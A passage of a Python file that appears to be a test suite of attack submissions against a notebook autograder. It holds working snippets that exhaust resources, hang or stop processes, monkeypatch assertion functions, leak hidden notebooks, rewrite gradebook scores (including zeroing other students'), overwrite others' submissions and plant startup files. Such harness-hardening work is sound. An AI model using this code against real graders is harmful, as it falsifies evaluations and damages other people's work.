        raw(CONNECTION, json.dumps([[len(BODY)], {"$": "map", "v": {"callback": 0, "args": [{"$": "bytes"}], "kwargs": {"$": "map", "v": {}}}}]).encode(), BODY)
        wire.receive(CONNECTION)
""",
    "reads_nothing": """__FRAMES__
def apply(step, x):
    for _ in range(10_000): raw(CONNECTION, b'[[],{"$":"map","v":{"callback":0,"args":[],"kwargs":{"$":"map","v":{}}}}]')
    time.sleep(60)
""",
    "parameters_without_end": """
class Scale:
    def __init__(self, size): pass
    def load_state_dict(self, found): self.found = found
    def __call__(self, x): return self.found["weight"] * x
    def parameters(self):
        while True: yield torch.zeros(0)
""",
    "files_without_a_name": """
    held = []
    for _ in range(50):
        held.append(os.memfd_create("x"))
        os.write(held[-1], bytes(15 << 20))
    return x
""",
    "contexts_of_io": """
libc = ctypes.CDLL(None)
def double(x):
    held = [ctypes.c_ulong(0) for _ in range(64)]
    return [libc.syscall(206, 1024, ctypes.byref(one)) for one in held]
""",
    "stops_itself": """
    for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN): os.kill(os.getpid(), number)
    signal.pause()
""",
    "alarms": """
def again(*a): raise KeyboardInterrupt
signal.signal(signal.SIGALRM, again)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
def double(x):
    while True: pass
""",
    "an_alarm_without_a_handler": """
faulthandler.dump_traceback_later(0.2, exit=True)
signal.setitimer(signal.ITIMER_PROF, 0.3)
def double(x):
    while True: pass
""",
    "awaits_forever": "async def work():\n    while True: await asyncio.sleep(0)\nawait work()",
    "threads_that_compute": """
def work():
    x = torch.randn(400, 400)
    while True: x = torch.tanh(x @ x)
for _ in range(30): threading.Thread(target=work, daemon=True).start()
def double(x):
    while True: pass
""",
    "a_destructor_without_end": """
class Last:
    def __del__(self):
        while True: pass
def double(x):
    return [Last() and 1.0]
""",
}

# --- aimed at a grader whose verdict is made in the process that runs the student's code ---------

SAME_PROCESS = {
    "patch_probe": """
import attn_course.probes
for name in ("equals", "gradient", "holds", "raises", "memory"):
    try: setattr(attn_course.probes.Probe, name, lambda *a, **k: None)
    except BaseException: pass
""",
    "patch_only_what_the_test_calls": """
torch.testing.assert_close = lambda *a, **k: None
torch.equal = lambda *a, **k: True
""",
    "history": """
    raise ValueError(str(globals().get("In", globals().get("_ih", "nothing")))[-1500:])
""",
    "source_notebook": """
    for path in up("source", "**", "*.ipynb"):
        text = open(path).read()
        raise ValueError(text[text.find("amax") - 200:][:700])
    raise ValueError("nothing")
""",
    "gradebook_own_points": """
for path in up("*.db"):
    try:
        with sqlite3.connect(path, timeout=2) as book:
            book.execute("UPDATE grade SET extra_credit = 7, manual_score = 7 WHERE auto_score IS NULL OR auto_score = 0")
    except sqlite3.Error: pass
""",
    "gradebook_others_points": """
for path in up("*.db"):
    try:
        with sqlite3.connect(path, timeout=2) as book: book.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    except sqlite3.Error: pass
""",
    "rewrite_submissions": """
for path in up("submitted", "*", "*", "*.ipynb"):
    tried(lambda: shutil.copy(glob.glob("*.ipynb")[0], path))
""",
    "startup_file": """
place = os.path.expanduser("~/.ipython/profile_default/startup")
try:
    os.makedirs(place, exist_ok=True)
    open(os.path.join(place, "00.py"), "w").write("import torch\\ntorch.testing.assert_close = None\\ntorch.randn = None\\n")
except OSError: pass
""",
    "stop_parent": """
for target in (os.getppid(), os.getpid()): tried(lambda: os.kill(target, signal.SIGSTOP))
""",
}

# These, and all that write frames, forge what our own grader's two sides say to each other; another grader has no such sides.
OWN_PROTOCOL = {
    *("tamper:forge_reply", "tamper:forge_handles", "tamper:forge_wire", "tamper:claim_callbacks"),
    "neighbour:poison_jail_code",
    *("tamper:claims_from_the_cells", "tamper:answers_before_it_is_asked"),
    "tamper:every_name_is_there",
}

KINDS = {"tamper": TAMPER, "spy": SPY, "neighbour": NEIGHBOUR, "exhaust": EXHAUST}
KINDS["same-process"] = SAME_PROCESS
WRITTEN = {f"{kind}:{name}": text for kind, cases in KINDS.items() for name, text in cases.items()}
OWN_PROTOCOL |= {name for name, text in WRITTEN.items() if "__FRAMES__" in text}


def whole(text):
    """An attack with what it begins with, and with a wrong answer where it gives none."""
    if text.lstrip("\n").startswith(" "):
        return f"{BEGIN}def double(x):\n{text}"
    answers = re.search(r"^(def double\b|.*\bdouble = )", text, re.M)
    return BEGIN + text.replace("__FRAMES__", FRAMES) + ("" if answers else WRONG)


ALL = {name: whole(text) for name, text in WRITTEN.items()}
DEFINED_BY = {"stable_softmax": "softmax", "apply": "apply", "Scale": "scale", "squares": "partial"}


def placed(source):
    """The cells of a submission with this attack, by grade id.

    A cell that would define once more what the attack has defined, as a stub, is left empty.
    """
    names = re.findall(r"^(?:def|class) (\w+)", source, re.M)
    return {"double": source} | {DEFINED_BY[name]: "" for name in names if name in DEFINED_BY}
